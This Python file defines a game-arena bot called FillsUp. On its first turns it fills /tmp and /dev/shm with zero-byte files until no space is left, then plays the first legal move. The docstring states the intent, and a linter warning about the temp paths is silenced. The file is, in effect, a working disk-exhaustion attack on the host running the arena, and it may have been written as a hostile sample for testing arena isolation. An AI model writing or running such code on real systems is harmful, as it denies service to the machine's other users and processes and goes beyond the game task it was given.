"""Writes to all that it can write to until nothing fits any more, in files small and large, and plays on."""

import sys
from itertools import count
from pathlib import Path

from arena_sdk import Bot, Turn, run


def fill(place: str) -> None:
    size = 4 * 1024 * 1024
    for number in count():
        try:
            Path(place, str(number)).write_bytes(bytes(size))
        except OSError as error:
            size //= 16
            if size == 0:
                sys.stderr.write(f"{place} is full: {error.strerror}\n")
                return


class FillsUp(Bot):
    def choose(self, turn: Turn) -> object:
        if turn.number < 2:
            for place in ("/tmp", "/dev/shm"):  # noqa: S108 - it writes wherever it can
                fill(place)
        return turn.legal[0]


run(FillsUp())
